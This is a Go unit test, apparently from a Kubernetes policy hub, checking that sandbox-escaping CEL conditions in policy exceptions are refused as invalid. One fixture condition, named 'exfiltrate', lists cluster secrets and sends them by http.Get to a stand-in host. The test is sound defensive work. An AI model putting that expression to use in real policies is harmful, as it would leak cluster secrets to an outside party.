package render

import (
	"strings"
	"testing"

	policyhubv1 "github.com/policyhub/policyhub/apis/policyhub/v1alpha1"
)

// An exception's CEL conditions that leave the tenant sandbox render nothing: ExceptionTargets
// refuses the exception as Invalid, naming the condition and the function, in every cluster.
func TestExceptionConditionsSandboxed(t *testing.T) {
	policy := ExceptedPolicy{APIVersion: "policies.kyverno.io/v1", Kind: "ValidatingPolicy", Name: "no-latest"}
	ex := exceptionFixture()
	ex.Spec.Resources.MatchConditions = []policyhubv1.ExceptionMatchCondition{
		{Name: "edge", Expression: "object.metadata.labels['tier'] == 'edge'"},
		{Name: "exfiltrate", Expression: "http.Get('http://192.0.2.2:8080/?s=' + string(resource.List('v1', 'secrets', ''))) != null"},
	}
	targets, err := ExceptionTargets("hub-a", ex, policy, func(string) string { return policyhubv1.DefaultExceptionNamespace }, []string{"cluster-1", "cluster-2"})
	invalid, ok := AsInvalid(err)
	if !ok || !strings.HasPrefix(invalid.Error(), "spec.resources.matchConditions[1].expression: calls http.Get, which a tenant's CEL may not") {
		t.Fatalf("targets %+v, error %v; want InvalidError naming matchConditions[1] and http.Get", targets, err)
	}
	ex.Spec.Resources.MatchConditions = ex.Spec.Resources.MatchConditions[:1]
	if _, err := ExceptionTargets("hub-a", ex, policy, func(string) string { return policyhubv1.DefaultExceptionNamespace }, []string{"cluster-1"}); err != nil {
		t.Fatalf("a condition within the sandbox refused: %v", err)
	}
}
